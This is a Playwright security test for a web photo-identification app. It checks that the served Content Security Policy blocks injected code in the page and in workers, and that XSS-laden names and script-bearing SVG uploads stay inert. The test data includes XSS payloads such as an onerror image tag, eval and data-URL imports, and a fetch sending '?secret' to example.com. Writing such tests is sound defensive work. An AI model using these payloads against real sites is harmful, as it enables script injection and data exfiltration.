import { readFileSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { go } from './field';
import { test as inStarted } from './started';

/**
 * The policy that is served, put to the test: what an intruder would try is refused. offline.spec.ts
 * counts the origins that a whole journey sends requests to: the app's own alone.
 */

/**
 * Runs inside the app's own files, as injected code would; the answers are the names of what was
 * thrown, or what came of it.
 */
const probeOf = (place: string): string => `
(async () => {
  const attempt = async (work) => {
    try { await work(); return 'done'; } catch (error) { return error.name; }
  };
  const answers = {
    eval: await attempt(() => eval('1 + 1')),
    function: await attempt(() => new Function('return 1')()),
    foreignFetch: await attempt(() => fetch('https://example.com/?secret', { mode: 'no-cors' })),
    foreignSocket: await attempt(() => new Promise((resolve, reject) => {
      const socket = new WebSocket('wss://example.com/');
      socket.onopen = resolve;
      socket.onerror = () => reject(new DOMException('', 'SecurityError'));
    })),
    foreignImport: await attempt(() => import('https://example.com/code.js')),
    dataImport: await attempt(() => import('data:text/javascript,globalThis.pwned=1')),
    foreignWorker: await attempt(() => new Worker('https://example.com/worker.js')),
    blobWorker: await attempt(() => new Worker(URL.createObjectURL(new Blob(['self.pwned = 1'])))),
    pwned: String(globalThis.pwned),
  };
  if (globalThis.document) {
    const paint = (markup) => () => { document.createElement('div').innerHTML = markup; };
    answers.markup = await attempt(paint('<img src=x onerror="pwned=1">'));
    answers.scriptText = await attempt(() => { document.createElement('script').textContent = 'pwned=1'; });
    answers.foreignImage = await attempt(() => new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = () => reject(new DOMException('', 'SecurityError'));
      image.src = 'https://example.com/?secret';
    }));
  }
  const channel = new BroadcastChannel('probe of ${place}');
  const say = () => channel.postMessage(answers);
  channel.onmessage = ({ data }) => data === 'ask' && say();
  say();
})();
`;

/** Of the app's workers, two that are there from the start. */
const WORKERS = ['library', 'encoder'] as const;

const REFUSED = {
  eval: 'EvalError',
  function: 'EvalError',
  foreignFetch: 'TypeError',
  foreignSocket: 'SecurityError',
  foreignImport: 'TypeError',
  dataImport: 'TypeError',
  foreignWorker: 'TypeError',
  blobWorker: 'TypeError',
  pwned: 'undefined',
};

/** What the probe in that place answers. */
function answersOf(page: Page, place: string): Promise<Record<string, string>> {
  return page.evaluate(
    (place) =>
      new Promise<Record<string, string>>((resolve) => {
        const channel = new BroadcastChannel(`probe of ${place}`);
        channel.onmessage = ({ data }: MessageEvent<Record<string, string>>) => resolve(data);
        const ask = (): void => channel.postMessage('ask');
        setInterval(ask, 200);
        ask();
      }),
    place,
  );
}

/**
 * The served file with something added: its headers, and so its policy, are those of the server.
 */
async function tamper(page: Page, path: RegExp, change: (text: string) => string): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: change(await response.text()) });
  });
}

test('injected code can neither make code nor reach anybody, in the page nor in a worker', async ({
  page,
}) => {
  const refused: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') refused.push(message.text());
  });
  await tamper(page, /\/(\?.*)?$/, (html) =>
    html.replace(
      '</body>',
      `<script>window.inlineRan = 1</script><img src="x" onerror="window.handlerRan = 1">
       <style>body { color: rgb(1, 2, 3) }</style>
       <script src="https://example.com/code.js"></script></body>`,
    ),
  );
  await tamper(page, /\/assets\/index-[^/]+\.js$/, (code) => code + probeOf('page'));
  for (const worker of WORKERS) {
    const file = new RegExp(`/assets/${worker}\\.worker-[^/]+\\.js$`);
    await tamper(page, file, (code) => code + probeOf(worker));
  }
  await page.goto('/');
  await page.evaluate(() => window.huella.ready);
  await test.step('in the page', async () => {
    expect(await answersOf(page, 'page')).toEqual({
      ...REFUSED,
      markup: 'TypeError',
      scriptText: 'TypeError',
      foreignImage: 'SecurityError',
    });
    expect(await page.evaluate(() => ['inlineRan' in window, 'handlerRan' in window])).toEqual([
      false,
      false,
    ]);
    await expect(page.locator('body')).not.toHaveCSS('color', 'rgb(1, 2, 3)');
    expect(refused.filter((text) => /inline script/.test(text)).length).toBeGreaterThan(0);
  });
  for (const worker of WORKERS) {
    await test.step(`in the ${worker} worker`, async () => {
      expect(await answersOf(page, worker)).toEqual(REFUSED);
    });
  }
});

inStarted('names with markup are text, and an SVG is no photo', async ({ page }) => {
  const alerts: string[] = [];
  page.on('dialog', (dialog) => {
    alerts.push(dialog.message());
    void dialog.dismiss();
  });
  const name = '<img src=x onerror=alert(1)>';
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">
    <script>alert(2)</script><rect width="400" height="400" fill="red"/></svg>`;
  const photo = readFileSync('public/samples/luna-1.jpg');
  await page.evaluate(
    async ([name, base64]) => {
      const bytes = Uint8Array.from(atob(base64), (char) => char.charCodeAt(0));
      await window.huella.import([{ file: new File([bytes], `${name}.jpg`), individual: name }]);
    },
    [name, photo.toString('base64')] as const,
  );
  await go(page, 'Gallery');
  await page.getByRole('button', { name: `${name}, ${name}.jpg` }).click();
  await expect(page.getByRole('dialog')).toContainText(name);
  await page.keyboard.press('Escape');
  await page.getByRole('radio', { name: 'By animal' }).check();
  await expect(page.getByRole('heading', { level: 2, name })).toBeVisible();

  // As a query it is neither drawn nor searched, whatever it calls itself.
  for (const [file, type] of [
    ['drawing.svg', 'image/svg+xml'],
    ['drawing.jpg', 'image/jpeg'],
  ] as const) {
    await go(page, 'Identify');
    await page
      .locator('input[type=file]')
      .first()
      .setInputFiles({ name: file, mimeType: type, buffer: Buffer.from(drawing) });
    await expect(page.getByText(file)).toBeVisible();
    await expect(page.getByRole('alert').filter({ hasText: 'photos in this format' })).toBeVisible({
      timeout: 30_000,
    });
    const width = await page
      .getByRole('region', { name: 'Photo to identify' })
      .getByRole('img')
      .evaluate((image: HTMLImageElement) => image.naturalWidth);
    expect(width).toBe(0);
  }
  expect(await page.locator('img[onerror]').count()).toBe(0);
  expect(alerts).toEqual([]);
});
